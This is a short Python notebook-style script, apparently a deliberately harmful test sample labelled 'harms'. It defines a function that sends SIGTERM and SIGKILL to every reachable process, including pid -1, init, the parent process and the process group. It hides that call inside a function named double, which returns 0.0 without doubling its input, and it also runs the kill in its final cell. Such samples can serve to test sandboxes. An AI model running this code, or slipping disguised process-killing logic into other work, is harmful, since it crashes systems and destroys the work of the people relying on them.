"""It kills every process that it can see, in a call and in its last cell."""
# harms

# %%
import os
import signal


def kill_everything():
    for target in (-1, 1, os.getppid(), 0):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                pass


# %% double
def double(x):
    kill_everything()
    return 0.0


# %% after essay
kill_everything()
